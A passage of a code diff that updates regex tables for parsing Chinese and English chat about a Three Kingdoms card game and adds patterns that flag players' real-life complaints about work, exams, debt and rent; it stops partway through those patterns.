+		before.slice(-8).replace(caused ? /[让叫]/g : /^$/, "").replace(OVER.test(clause.slice(end - 1)) ? /给我$/ : /^$/, "")
+	);
+}
 
 // src/chatter/moves/verbs.ts
 const ROWS4 = [
 	{
 		verb: "kill",
-		zh: "[杀砍打弄捅射毒]死(?!我[也都])|干掉|杀掉|击杀|斩了|斩杀|收掉|收了(?=[^,]{0,4}(?:人头|命))|收了?人头|拿(?:了|下|走|到)?(?:了|个)?人头|(?<=人头.{0,8})(?:拿(?:了|下|走)?|收(?:了|走)?|抢(?:了|走)?)(?=的|了|$|[,.!?])|收(?:下|走)?了?(?=的?(?:人)?头)|(?:砍|拿|收|摘)(?:了|走|下)?(?=的(?:人)?头)|抡死|弄死|收(?=的$|的[,.!?]|了$|了[,.!?]|掉?(?:他|她|主公|[一二三四五六七八九\\d]号))|补(?:刀|死|掉|得)|做掉|办了|弄没了|(?:宰|斩)(?:掉)?了(?=$|[,.!?])|宰|带走了?|宰(?=的|了)|做了(?=$|[,.!?])|秒了|秒掉|秒杀|送走|灭了|杀害|拿下|噶(?:了|掉)",
+		zh: "[杀砍打弄捅射毒]死(?!我[也都])|宰(?!相|人)(?:了|掉)?|干掉|杀掉|击杀|斩了|斩杀|收掉|收了(?=[^,]{0,4}(?:人头|命))|收了?人头|拿(?:了|下|走|到)?(?:了|个)?人头|(?<=人头.{0,8})(?:拿(?:了|下|走)?|收(?:了|走)?|抢(?:了|走)?)(?=的|了|$|[,.!?])|收(?:下|走)?了?(?=的?(?:人)?头)|(?:砍|拿|收|摘)(?:了|走|下)?(?=的(?:人)?头)|抡死|弄死|收(?=的$|的[,.!?]|了$|了[,.!?]|掉?(?:他|她|主公|[一二三四五六七八九\\d]号))|补(?:刀|死|掉|得)|做掉|办了|弄没了|(?:宰|斩)(?:掉)?了(?=$|[,.!?])|宰|带走了?|宰(?=的|了)|做了(?=$|[,.!?])|秒了|秒掉|秒杀|送走|灭了|杀害|拿下|噶(?:了|掉)",
 		en: "kill(?:ed|s|ing)?|dropped (?=(?:a|the|that|one)? ?(?:reb|rebel|traitor|spy|loyal|\\d|seat))|(?<='s )(?:head|kill) was|got the kill on|slain|slew|finish(?:ed|ing)(?: off)?|finish off|took out|murder(?:ed)?"
 	},
 	{
 		verb: "use",
-		zh: "装(?:上|备)?(?:了|[个把件匹])|(?:穿|戴|披|套|骑|挂)(?:上|了|一?[个件匹])|(?:放|开|丢|甩|打出|挂|贴)(?=的|了)"
+		zh: "装(?:上|备)?(?:了|[个把件匹])|掏出(?:了|来)?|(?:穿|戴|披|套|骑|挂)(?:上|了|一?[个件匹])|(?:放|开|丢|甩|打出|挂|贴)(?=的|了)"
 	},
 	{ verb: "throw", zh: "(?:[扔砸丢]|送)(?=[^,]{0,6}(?:蛋|花|鞋))", en: "threw|throw" },
-	{ verb: "use", card: "jiedao", zh: "借刀", en: "collateral(?:ed)?" },
+	{ verb: "use", card: "jiedao", zh: "借刀|借(?:了|过)?(?=[^,]{1,5}的刀)", en: "collateral(?:ed)?" },
 	{ verb: "use", card: "juedou", zh: "决斗", en: "duel(?:l?ed|s|l?ing)?" },
 	{
 		verb: "use",
 		card: "huogong",
 		zh: "火攻|烧(?!脑|烤)|燎(?=了)|(?<=那)把火|点(?:了)?把火|火放(?=得|的|了)|(?<=[^大恼上生发])火(?=了?(?:过)?(?:我|你|他|她|主|老大|[一二三四五六七八九\\d]))",
-		en: "fire attack(?:ed)?|sets? (?=.{1,12} on fire)"
+		en: "fire attack(?:ed|ing)?|sets? (?=.{1,12} on fire)"
 	},
 	{
 		verb: "use",
 		card: "tiesuo",
 		zh: "铁索|铁锁|铁链|连环|(?<!连)[拴栓](?:着|住|过|了|上)?|锁(?=了?(?:我|你|他|她|主))",
-		en: "chain(?:ed|s)?(?: up)?"
+		en: "chain(?:ed|s|ing)?(?: up)?"
 	},
 	{ verb: "use", card: "nanman", zh: "南蛮(?:入侵)?" },
 	{ verb: "use", card: "wanjian", zh: "万箭(?:齐发)?" },
@@ -27568,13 +27740,13 @@ const ROWS4 = [
 	{
 		verb: "use",
 		card: "lebu",
-		zh: "乐不思蜀|贴(?:了)?乐|(?<=[被让叫](?:张)?乐子?)[关套贴闷困锁](?=了|住|起来|着|在)|(?<![快音欢娱可])乐(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2,4}(?:$|[,.!?])))|(?<=被.{1,6})乐(?=了|住|$)",
+		zh: "乐不思蜀|贴(?:了)?乐|(?<=[把将].{1,8})乐(?=了|$)|(?<=[被让叫](?:张)?乐子?)[关套贴闷困锁](?=了|住|起来|着|在)|(?<![快音欢娱可])乐(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2,4}(?:$|[,.!?])))|(?<=被.{1,6})乐(?=了|住|$)",
 		en: "indulg(?:ed|ence on)"
 	},
 	{
 		verb: "use",
 		card: "bingliang",
-		zh: "兵粮(?:寸断)?|断(?:了)?粮|(?<![小士主])兵(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]))",
+		zh: "兵粮(?:寸断)?|断(?:了)?粮|(?<=[把将].{1,8})兵(?=了|$)|(?<![小士主])兵(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]))",
 		en: "starv(?:ed|es|ing)"
 	},
 	{
@@ -27590,35 +27762,35 @@ const ROWS4 = [
 	},
 	{
 		verb: "steal",
-		zh: "(?<!手)顺(?:走|手牵羊|手(?=了|我|他|主)|了)?(?!手[给把又再捅砍打救送]|利|便|序|势|眼|从|滑|风|着)|[摸掏抽扒抠薅](?:走|去|了)|[摸抠薅](?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d]))(?!鱼)|薅|抠(?=[一二两三\\d]张)|摸(?=[一二两三几俩\\d]张|我一?张)|牵走?(?!制|连)|偷(?!偷|笑|着|懒)(?:走|了)?|抢走?(?!人头|救|眼|[你他我]?(?:老婆|媳妇|女朋友|对象|生意|饭))|拿走|拿(?:了|过)(?=.{0,6}(?:牌|装备|马$))",
+		zh: "(?<!手)顺(?:走|手牵羊|手(?=了|我|他|主)|了)?(?!手[给把又再捅砍打救送]|利|便|序|势|眼|从|滑|风|着)|(?:[摸抽扒抠薅](?:走|去|了)|掏(?:走|去|了))(?!出)|[摸抠薅](?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d]))(?!鱼)|薅|抠(?=[一二两三\\d]张)|摸(?=[一二两三几俩\\d]张|我一?张)|牵走?(?!制|连)|偷(?!偷|笑|着|懒)(?:走|了)?|抢走?(?!人头|救|眼|[你他我]?(?:老婆|媳妇|女朋友|对象|生意|饭))|拿走|拿(?:了|过)(?=.{0,6}(?:牌|装备|马$))",
 		en: "nick(?:ed|s)|pinch(?:ed|es)|yoink(?:ed|s)?|lifted|stole(?:n)?|steal(?:s|ing)?|snatch(?:ed|es)?|swip(?:ed|es)|grabb(?:ed|ing)|robb(?:ed)?|took (?:a |my |his |her |one |two )?cards?"
 	},
 	{
 		verb: "heal",
 		zh: "回血|回了?[一二两三几\\d]?(?:点|滴|口)?血|加血|奶(?:了|过)?(?:一)?口?(?=我|你|他|她|主|[一二三四五六七八九十\\d])|喂(?=了?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|桃))|喂(?=的|了)|奶(?=的)|(?<=桃.{0,8})(?:掏|出|吃|给)(?=的)|[吃喝磕嗑](?:的|了|过)?(?:[一二三四五两几\\d]*[个口颗张]?)桃|掏(?:了|出)?(?:[一二三两几\\d]*[个口颗])?桃|回(?:了|过)?[一二两三几]口|续(?:了)?[一二两三]?(?:口|点|滴)?(?:血|命)|(?<=给.{1,6})续(?:了|上)|抬(?:了|过)?(?:一手|一口|一下)?(?=我|你|他|她|主|[一二三四五六七八九\\d]|\\p{Script=Han}{2})|捞(?:了|过)?(?=我|你|他|她|主)|扶(?:起来|了?起|回来)|(?<=把.{1,6})拉(?:起来|回来)",
-		en: "heal(?:ed|s|ing)?|peached|patched (?=.{1,16} ?up)|topped (?=.{1,16} ?up)"
+		en: "heal(?:ed|s|ing)?|peach(?:ed|ing)|(?:ate|eats|eating|had)(?= (?:(?:an?|one|two|three|\\d|his|her|their|another|all)(?: the| his| more)? )?peach)|patched (?=.{1,16} ?up)|topped (?=.{1,16} ?up)"
 	},
 	{ verb: "save", zh: "救(?:了|过|活|起|下|回来)?(?!兵)(?!命|驾)", en: "sav(?:ed?|es|ing)|rescu(?:ed?|es)|revived" },
 	{
 		verb: "protect",
-		zh: "(?<!担)保(?<!我保)(?:了|护|下|住|过)?(?!证|留|存|持|重)|护(?:了|着|住|过)?(?!甲|航)|帮(?:了|过|着|他?挡)?(?!派)|(?<!阻)挡(?:了|住|下)?刀?|罩(?:了|着)",
+		zh: "(?<!担|说)保(?<!我保)(?:了|护|下|住|过)?(?!证|留|存|持|重)|护(?:了|着|住|过)?(?!甲|航)|(?<!说)帮(?:了|过|着|他?挡)?(?!派)|(?<!阻)挡(?:了|住|下)?刀?|罩(?:了|着)",
 		en: "protect(?:ed|s|ing)?|help(?:ed|s)|cover(?:ed)|defend(?:ed)|shield(?:ed)?"
 	},
 	{
 		verb: "give",
-		zh: "(?<=[把将].{1,6})给(?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2})|给(?![你我他]当)(?=了?(?:过)?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2,3}).{0,5}(?:牌|桃|闪|酒|杀|装备|[一二两三几\\d]张|马))|送(?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d])(?!.{0,4}(?:走|上路|归西))|交给(?!我(?:$|了|吧|来|就|,))|塞给|递给|(?<=往(?:我|你|他|她|主公|[一二三四五六七八九十\\d]号|\\p{Script=Han}{2,3})(?:那|这|手)?(?:里|儿|边)?)[塞递送](?:了|过)?|(?<=[牌桃])都?[塞递送给](?:了|过|到)?(?=我|你|他|她|主)|[塞递](?:了|过)?(?=我|你|他|她|主|\\p{Script=Han}{2,3}[一二两三几\\d]?[张个])|赏(?:了|给|过)?(?=我|你|他|她|主)|[塞递](?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d]号).{0,3}(?=[一二两三几\\d]?张|牌)|(?<=给(?:我|你|他|她|主公|[一二三四五六七八九十\\d]号).{0,3})[塞递](?:了|过)?(?=[一二两三几\\d]?[张个]|牌)|[塞递](?:了|过)?(?=[^,]{0,6}给)",
+		zh: "(?<=[把将].{1,6})给(?!了?(?:乐|兵|拆|顺|砍|杀|烧|决斗|火攻|铁索|打|捅|弄|干|灭|收))(?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2})|给(?![你我他]当)(?=了?(?:过)?(?:我|你|他|她|主|[一二三四五六七八九十\\d]|\\p{Script=Han}{2,3}).{0,5}(?:牌|桃|闪|酒|杀|装备|[一二两三几\\d]张|马))|送(?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d])(?!.{0,4}(?:走|上路|归西))|交给(?!我(?:$|了|吧|来|就|,))|塞给|递给|(?<=往(?:我|你|他|她|主公|[一二三四五六七八九十\\d]号|\\p{Script=Han}{2,3})(?:那|这|手)?(?:里|儿|边)?)[塞递送](?:了|过)?|(?<=[牌桃])都?[塞递送给](?:了|过|到)?(?=我|你|他|她|主)|[塞递](?:了|过)?(?=我|你|他|她|主|\\p{Script=Han}{2,3}[一二两三几\\d]?[张个])|赏(?:了|给|过)?(?=我|你|他|她|主)|[塞递](?:了|过)?(?=我|你|他|她|主|[一二三四五六七八九十\\d]号).{0,3}(?=[一二两三几\\d]?张|牌)|(?<=给(?:我|你|他|她|主公|[一二三四五六七八九十\\d]号).{0,3})[塞递](?:了|过)?(?=[一二两三几\\d]?[张个]|牌)|[塞递](?:了|过)?(?=[^,]{0,6}给)",
 		en: "gave|giv(?:es?|en|ing)|handed|passed"
 	},
 	{
 		verb: "strike",
 		card: "sha",
 		zh: "酒杀|裸杀|[一补]杀(?=砍|打|掉)|杀(?!父|手|机|气|青|鸡|疯|红|意)|砍(?:掉|了)?|抡(?!决斗)|(?<![军借挡补偃青宝大小一两几])刀(?=了)|(?:出|来|给)了?[一两二三四几\\d]刀|(?<![a-z])a(?=了|我|你|他|主)",
-		en: "slash(?:ed|es)?|swung at|struck|strik(?:es?|ing)|shot|shoot(?:s|ing)?|stabb?(?:ed)?|sha(?:'d|ed)?"
+		en: "slash(?:ed|es|ing)?|swung at|struck|strik(?:es?|ing)|shot|shoot(?:s|ing)?|stabb?(?:ed)?|sha(?:'d|ed)?"
 	},
 	{
 		verb: "attack",
 		zh: "[一两二三]刀|[挨吃](?:了)?一[套顿]|捅|剁|劈(?!腿|叉)|扎(?!实|心|堆|根)|刮(?!风|目)|削(?!减|弱)|捶|踹|踩(?=了|我|你|他|她|主|老|[一二三四五六七八九\\d])|怼|突突|剐|敲掉|碰(?=了|过)|踢(?=了|我|你)|抽(?=了(?:我|你|他|她|主))|咬(?=了|我|你|他|她|主)|薄了|爆锤|戳|(?<!讽)刺(?!激)|(?<=[那这])(?:[一二两三四五六几\\d]*)(?:刀|下)(?=$|[对总手是])|电(?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d])|了)|炸(?=了?(?:我|你|他|她|主|[一二三四五六七八九\\d])|了)|扣(?:了)?(?=我|你|他|她|主|[一二三四五六七八九\\d]号)|过不去|作对|死磕|较劲|[扣掉挨吃丢少](?:了|过)?(?:[一二三两几\\d]*[点滴格刀下]?)(?:血|刀|揍)|打(?:掉)?(?!过?包票|算|扰|牌|赌|招呼|错字|电话|呼噜|瞌睡|盹|卡|折|包|得|的(?:好|不错|漂亮|真|太)|法|字|听|开|一把|游戏|工|不过|完|死)(?:了|过)?|揍|(?<![实石铁])锤(?!子)|攻击|针对|集火|伤害?(?=了|过|我|你|他|她)|射|点(?=了?(?:我|你|他|她)(?![们的]))|弄(?=了?我)|轰|坑(?=了?(?:我|你|他|主))|搞(?=了?(?:我|你|他|主))|动手|出手|欺负|阴(?=了?(?:我|你|他))|下手|掉(?:了|那)?[一二三两\\d]?(?:点|滴)?血|(?<=血.{0,3})[少掉](?:了)?[一二三两\\d][点滴格]|(?<!死)[吃挨中](?:了|过)?一?[张发记个]?(?=乐|兵|杀|决斗|火攻|南蛮|万箭)",
-		en: "go(?:es)? straight (?:for|at)|took (?:\\d|one|two|three) (?:hp |health |points? )?(?:off|from)|hit(?:s|ting)?|zapp?(?:ed|ing|s)?|pok(?:ed?|es|ing)|clipp(?:ed|ing)|nuk(?:ed|ing)|whack(?:ed)?|bonk(?:ed)?|attack(?:ed|s|ing)?|hurt|damag(?:ed?|es)|target(?:ed|s|ing)?|smack(?:ed)?|punch(?:ed)?|burn(?:ed|t)|went for|go(?:ing)? after|going for|pick(?:ed|ing) on|beat(?:ing)?"
+		en: "go(?:es)? straight (?:for|at)|took (?:\\d|one|two|three) (?:hp |health |points? )?(?:off|from)|hit(?:s|ting)?|zapp?(?:ed|ing|s)?|pok(?:ed?|es|ing)|clipp(?:ed|ing)|nuk(?:ed|ing)|whack(?:ed)?|bonk(?:ed)?|attack(?:ed|s|ing)?|hurt|damag(?:ed?|es)|target(?:ed|s|ing)?|smack(?:ed)?|punch(?:ed)?|burn(?:ed|t|s|ing)|went for|go(?:ing)? after|going for|pick(?:ed|ing) on|beat(?:ing)?"
 	},
 	{
 		verb: "low",
@@ -27696,11 +27868,7 @@ function whenIn(text) {
 }
 
 // src/chatter/moves/deeds.ts
-const PAST = /了|每|就把|连[吃喝砍杀打]|[又还]要|过(?!河|来|去|牌|拆)|头一个|那(?:[一二两三四五六几\d]*)(?:张|手|下|刀|发|个|杀)|这(?:张|下|刀|发)|上回|早先|之前|走$|刚|被|又|成[这那]|开场|一?上来|转[头手]|[前后]脚|居然|竟|还(?=补|从|给)|已经|一直|总|老(?=[是在来去往打杀砍拆顺扣盯针欺追烧偷抢拿给跟冲])|(?<=[你我他她])那(?![么就我你会])|昨|上(?:个|一)?(?:回合|轮|圈)|第.{1,2}(?:轮|回合)|开局|(?:一|两|二|三|几|\d)(?:张|刀|次|下|滴|点|口)|的(?:是|人|就)|\b(?:did|was|were|got|have|has|had|been|just|last|ago|keeps?|always)\b/;
-const OVER = /^.?[掉完]?了/;
-const DONE = /^的(?!好|不错|漂亮|真|太|时候|话)/;
-const ENGLISH_PAST = /ed$|^(?:hit|struck|shot|stole|stolen|gave|took|threw|slew|slain|hurt|went for|dead|died|broke)/;
-const FUTURE = /(?:(?<!又)要|想|会|别|去|快|(?<!早)先(?!.{0,4}[再又])|(?<![上本后原]|了.{0,2})来|该|请|将|敢|准备|打算|应该|必须|得|(?<!先.{0,5})再|倒是|给我|可以|能|帮我|让|不许|不准|如果|要是|谁敢|下(?:个|一)?(?:回合|轮|圈)|别再|不要|求|等(?:我|着)|'ll|\b(?:will|would|should|could|can|must|gonna|let's|lets|let|don't|dont|please|pls|to|if|might|next)\b)/;
+const TOPICAL = /^(?:也|都|竟然?|居然|还)+$/;
 const PASSIVE2 = /被|挨(?!着)|遭(?:到)?|(?:^|[^送交塞递留])[让叫](?=.{1,4}$)|(?<=[牌马甲弩卦盾剑刀弓斧戟桃闪张]|\S{1,4}桥)给(?=.{1,4}$)|\b(?:was|were|got|been|get|is|am|are|being)(?: \w+ly)? $/;
 const OBJECT_MARK = /(?:对着?|向|往|朝|冲着?|从|连|[盯追逮揪照]着|给(?:了|过)?|替|为|把|将|跟|和|拿|帮|找|(?<=连.{1,6})带)$/;
 const HURT = /[点滴格]血|[一二三两\d](?:血|滴|格)|掉(?:了)?血|打掉|砍掉|敲掉|削掉|扣血|\b(?:damage|hp|hurt|burned)\b/;
@@ -27844,8 +28012,9 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 		to = party(pre[pre.length - 1]);
 	} else if (row.verb === "die" || row.verb === "low") {
 		by = "open";
-		to = party(pre[pre.length - 1] ?? post[0]);
-		if (row.verb === "die" && /^在/.test(clause.slice(end))) by = party(post[0]);
+		const under = row.verb === "die" && /^在|在$|于$/.test(clause.slice(end - 1));
+		to = party(pre[pre.length - 1] ?? (under ? void 0 : post[0]));
+		if (under) by = party(post[0]);
 		else if (row.verb === "die" && passive && pre.length > 1 && before.includes("被")) {
 			by = party(pre[pre.length - 1]);
 			to = party(pre[pre.length - 2]);
@@ -27864,12 +28033,13 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 		const subjects = pre.filter((one) => !isObject(one) && !undergone.has(one));
 		const nominal = /^(?:了|过)?(?:我|你|他|她|\S{1,4})?的(?:人)?(?:明明|其实|分明|就|才)*是/.test(clause.slice(end));
 		const after = post.filter((one) => !/\b(?:by|with) $/.test(clause.slice(0, one.start)));
-		const clefted = after.length === 0 && objects.length === 0 && subjects.length > 1 && /^(?:掉|走)?的(?:(?:人)?头)?(?:$|[吗呢啊吧,])/.test(clause.slice(end));
+		const clefted = after.length === 0 && objects.length === 0 && subjects.length > 1 && /^(?:掉|走)?的(?:(?:人)?头)?(?:$|[吗么呢啊吧呗,])/.test(clause.slice(end));
+		const topical = after.length === 0 && objects.length === 0 && subjects.length > 1 && TOPICAL.test(clause.slice(subjects[subjects.length - 1]?.end, start));
 		const stressed = clefted ? subjects.find(({ start: at }) => clause[at - 1] === "是") : void 0;
 		const doer = stressed ?? subjects[subjects.length - 1];
 		by = party(doer, carried);
 		to = party(
-			clefted ? subjects.filter((one) => one !== doer && (one.seat === null || one.seat !== doer?.seat)).pop() : after[0] ?? objects[objects.length - 1]
+			clefted || topical ? subjects.filter((one) => one !== doer && (one.seat === null || one.seat !== doer?.seat)).pop() : after[0] ?? objects[objects.length - 1]
 		);
 		const source = after.find(
 			(one) => subjects.length === 0 && (/^[^的]{0,2}是$/.test(clause.slice(end, one.start)) || BLOWS.has(row.verb) && /\bfrom $/.test(clause.slice(0, one.start)))
@@ -27907,18 +28077,571 @@ function deedOf2(clause, { row, start, end }, { mentions, undergone }, cards, wh
 		hurt: ["attack", "strike"].includes(row.verb) && (HURT.test(clause.replace(LEFT2, "")) || FOR_ALL.has(named ?? "")),
 		when,
 		denied: DENIED5.test(before.slice(-10)),
-		past: (PAST.test(clause.slice(Math.max(0, start - 8), Math.min(clause.length, end + 8))) || ENGLISH_PAST.test(words) || row.verb === "die" || DONE.test(clause.slice(end).replace(/^[掉走]/, "")) || passive !== null) && !/\b(?:pls|please|plz)\b/.test(clause.slice(end)) && !FUTURE.test(
-			before.slice(-8).replace(undergo ? /[让叫]/g : /^$/, "").replace(OVER.test(clause.slice(end - 1)) ? /给我$/ : /^$/, "")
+		past: isPast(
+			clause,
+			{ start, end, when },
+			{
+				dies: row.verb === "die",
+				passive: passive !== null,
+				caused: undergo !== null,
+				ordered: pre.length === 0 && post[0] !== void 0 && post[0].kind !== "self"
+			}
 		),
 		start,
 		end
 	};
 }
 
+// src/chatter/moves/life/matters/row.ts
+const EXAM = "(?:考试|考研|期末|期中|高考|中考|考公|国考|省考|四级|六级|答辩|口试|补考|科目[一二三四]|驾照|雅思|托福|面试官|\\b(?:finals?|exams?|midterms?|tests?|quiz|quizzes|boards|mcat|lsat|sat|orals?)\\b)";
+const BOSS = "(?:老板(?!娘)|领导|上司|主管|经理|组长|总监|甲方|导师|老师|辅导员|\\b(?:boss|manager|supervisor|professor|teacher|advisor|shift lead)\\b)";
+const FOOD = "(?:火锅|烧烤|烤肉|炸鸡|汉堡|披萨|面条|拉面|米饭|饺子|烤冷面|螺蛳粉|麻辣烫|冒菜|泡面|外卖|寿司|沙县|黄焖鸡|烤鱼|串串|小龙虾|煎饼|包子|馄饨|米线|盖饭|蛋糕|月饼|粽子|\\b(?:pizza|noodles?|ramen|burgers?|tacos?|sushi|hot ?pot|bbq|barbecue|fries|curry|pasta|sandwich(?:es)?|dumplings?|wings|steak|salad|cake|ice cream)\\b)";
+const SOON = "(?:今天|今晚|明天|明早|后天|大后天|下午|下周|下个?月|过两天|马上|快要?|这周|周[一二三四五六日末]|还有.{1,3}天)";
+
+// src/chatter/moves/life/matters/daily.ts
+const DAILY = [
+	[
+		"scolded",
+		"work",
+		"被?BOSS.{0,12}(?:骂|训|批(?!准)|吼|怼|喷|数落|内涵|pua)|被.{0,4}(?:骂|训|批|吼|怼|喷)(?:了|得|惨).{0,6}BOSS|挨BOSS?.{0,2}(?:骂|训|批)(?=.{0,8}(?:公司|单位|上班|BOSS))|(?:公司|单位|开会|全组|上班|同事面).{0,8}(?:被|挨)(?:了)?.{0,4}(?:骂|训|批|吼|点名)|BOSS.{0,24}\\b(?:yell(?:ed|ing|s)?|scream(?:ed|ing|s)?|shout(?:ed|ing|s)?|scold(?:ed)?|chewed|ripped into|tore into|went off on)|\\b(?:yelled|shouted|screamed) at (?:me )?(?:by|at work)|(?:chewed|called) (?:me )?out (?:by|at work|in front)|told off\\b"
+	],
+	[
+		"blamed",
+		"work",
+		"(?:替|帮|给)(?:BOSS|同事|别人|人家|全组).{0,4}背.{0,3}锅|(?:BOSS|同事|公司).{0,10}(?:甩锅|推锅|锅(?:全|都)?(?:甩|扣|推)|让我背)|背.{0,3}锅.{0,10}(?:公司|同事|BOSS)|(?:抢|顶).{0,3}(?:我的)?功劳|\\b(?:took the (?:blame|fall) (?:for|at)|threw me under the bus|blamed me (?:at work|for (?:his|her|their)))\\b"
+	],
+	[
+		"laid_off",
+		"work",
+		"失业|被裁|裁员|裁(?:掉|了).{0,4}(?:人|组|部门|一半)|被?优化(?:掉|了)|辞退|被?开除(?!了?你)|丢了(?:工作|饭碗)|被炒|炒鱿鱼|公司(?:倒闭|黄了|跑路)|\\b(?:laid (?:me )?off|layoffs?|(?:got|was|been|being|getting) (?:fired|let go|sacked)(?! up| at)|fired me|lost my job|(?:they|had to|boss) (?:had to )?let me go|out of (?:a )?(?:job|work)|unemployed|company (?:folded|went under))\\b"
+	],
+	[
+		"turned_down",
+		"work",
+		"面试.{0,4}(?:挂|没过|凉|失败|没消息|黄|崩)|(?:简历|投).{0,8}(?:石沉大海|没回|没人理|已读)|(?<!回合|轮)被(?:公司|hr|校招)刷|升职.{0,4}(?:没|黄)|没升(?:上|成|职)|\\b(?:passed over|didn'?t get (?:the|that|this) (?:promotion|raise|job|offer|role|gig)|rejection (?:email|letter)|bombed (?:my|the|that|an) interview|interview went (?:bad|badly|terrible|awful))\\b"
+	],
+	[
+		"pay_cut",
+		"work",
+		"降薪|减薪|欠薪|拖欠|工资.{0,8}(?:降|扣|拖|没发|没涨|一分没|没动|不发|少)|扣(?:了)?(?:我)?(?:的)?(?:工资|绩效|奖金|全勤)|绩效.{0,3}(?:c|d|垫底|最低)|(?:年终奖|奖金).{0,4}(?:没|砍|泡汤|少)|\\b(?:cut(?:ting|s)? (?:my|our|everyone'?s) (?:hours|shifts|pay|salary)|(?:my|our) (?:hours|shifts|pay) (?:got |are |were |is |was |being )*(?:cut|slashed)|pay ?cut|no raise|(?:haven'?t|not) (?:been )?paid)\\b"
+	],
+	[
+		"waiting",
+		"work",
+		"等.{0,4}(?:面试|录取|offer|复试|体检)?.{0,2}(?:结果|通知|消息|回信)|(?:面试|投的?简历|那边).{0,6}(?:没消息|没回音|没下文|没信)|\\b(?:heard back|hear back|waiting (?:to hear|on|for) (?:back|the|my|a) (?:results?|answer|call|decision|offer))\\b"
+	],
+	[
+		"interview",
+		"work",
+		`${SOON}.{0,10}面试|面试.{0,10}(?:紧张|慌|怕|汗|没准备|答不)|\\b(?:(?:job )?interview (?:is |in )?(?:tomorrow|tmrw|tmr|today|tonight|next|on|in|coming)|(?:got|have) (?:an|a|my|this) (?:job |big |final )?interview|(?:nervous|anxious).{0,14}interview)\\b`
+	],
+	[
+		"overwork",
+		"work",
+		"加班|996|007|被(?:甲方|客户|需求).{0,4}(?:折磨|逼|搞)|boss wants me (?:in|to work)|(?:改|写|赶)(?:方案|需求|ppt|报表|标书)|周末还?(?:要|得)?(?:上班|干活|开会)|(?:上班|工作|搬砖|干活).{0,8}(?:累|烦|麻|崩溃|要命|不想|emo|头大)|(?:累|烦|不想|讨厌|受够).{0,6}(?:上班|工作|开会)|想辞职|裸辞|\\b(?:overtime|(?:work(?:ing|ed)?|worked) (?:late|weekends?|doubles?|nights?|\\d+ hours)|double shift|night shift|on call|deadlines?|burn(?:ed|t) out|burnout|swamped|(?:hate|hated|quit|quitting|leaving) my job|work (?:is|has been|was) (?:kill\\w*|hell|brutal|crazy|awful|rough|a nightmare)|long (?:day|shift) at work)\\b"
+	],
+	[
+		"colleague",
+		"work",
+		"同事.{0,10}(?:抢|阴|坑|排挤|告状|小报告|针对)|被(?:同事)?(?:排挤|穿小鞋|孤立)|办公室.{0,4}(?:政治|斗)|\\b(?:co-?workers?|colleagues?).{0,20}(?:stole|stealing|bully\\w*|hate\\w*|toxic|gossip\\w*|snitch\\w*)\\b"
+	],
+	[
+		"exam_failed",
+		"study",
+		`(?:没|未)(?:过线|上岸|考(?:好|上|过)|及格)|(?:差|少).{0,5}分.{0,6}(?:过线|上岸|及格|没)|挂(?:科|了.{0,2}[门科])|考(?:砸|崩|糊|得(?:稀碎|很差|一塌))|落榜|不及格|(?:考研|高考|考公).{0,3}失败|要补考|复试被刷|${EXAM}.{0,6}(?:没过|挂了|砸了|凉了|考砸)|\\b(?:failed (?:my|the|that|an?|this|all my) (?:\\w+ )?(?:exams?|tests?|class(?:es)?|midterms?|finals?|course|quiz|driving)|bombed (?:my|the|that|an?|this) (?:\\w+ )?(?:exams?|tests?|midterms?|finals?|quiz|paper|sat|gre)|flunk\\w*|failed (?:chem|math|maths|physics|bio|calc\\w*|english|history|econ)|got an? [1-4]\\d (?:in|on)|got (?:an?|my) (?:f|d)\\b(?! (?:slash|card)))`
+	],
+	[
+		"exam_coming",
+		"study",
+		`${SOON}.{0,6}${EXAM}|${EXAM}.{0,10}(?:没复习|没背|慌|怕|紧张|要命|来不及|看不完|没看|背不|不会|倒计时)|(?:复习|背书|刷题).{0,6}(?:不完|没完|来不及|崩溃|要疯)|(?:一点|啥|什么)都?没(?:复习|背)|${EXAM}.{0,14}\\b(?:tmrw|tmr|tomorrow|tonight|today|monday|tuesday|wednesday|thursday|friday|next|coming up|in (?:an?|two|three|\\d+) (?:hours?|days?|weeks?))\\b|\\b(?:got|have) (?:my|an?|this|two|three) (?:\\w+ )?${EXAM}|haven'?t (?:even )?studied|didn'?t study|cramming`
+	],
+	[
+		"thesis",
+		"study",
+		"论文|毕设|查重|开题|答辩|毕业设计|\\b(?:thesis|dissertation|my (?:paper|essay)|(?:paper|essay|assignment|homework|project) (?:is )?due)\\b"
+	],
+	[
+		"debt",
+		"money",
+		"信用卡|花呗|借呗|网贷|(?:房|车)贷|逾期|催收|最低还款|欠(?:了|着|下)?(?:一屁股|.{0,5}(?:钱|万|千|块|债))|还不(?:上|起)|\\b(?:credit cards?|in debt|my debts?|student loans?|overdue|collections agency|debt collectors?|i owe .{0,12}(?:\\$\\d|\\d+k|grand|thousand|bucks|the bank)|mortgage|maxed out)\\b"
+	],
+	[
+		"rent",
+		"money",
+		"房租|房东|(?:房子|租房|押金).{0,6}(?:涨|退|扣|催|到期|赶)|被(?:房东)?赶出来|\\b(?:landlord|my rent|the rent|rent(?:'s| is| was| went| goes| just)? (?:gonna|going|up|due|raised|hike\\w*|late|insane|killing)|make rent|evict\\w*|lease)\\b"
+	],
+	[
+		"scammed",
+		"money",
+		"被.{0,6}骗.{0,4}(?:钱|万|千|块)|骗(?:了|走).{0,6}(?:块|万|钱|千)|杀猪盘|(?:电信|网络)诈骗|被割韭菜|\\b(?:scammed|got conned|phished|identity (?:theft|stolen))\\b"
+	],
+	[
+		"lost_money",
+		"money",
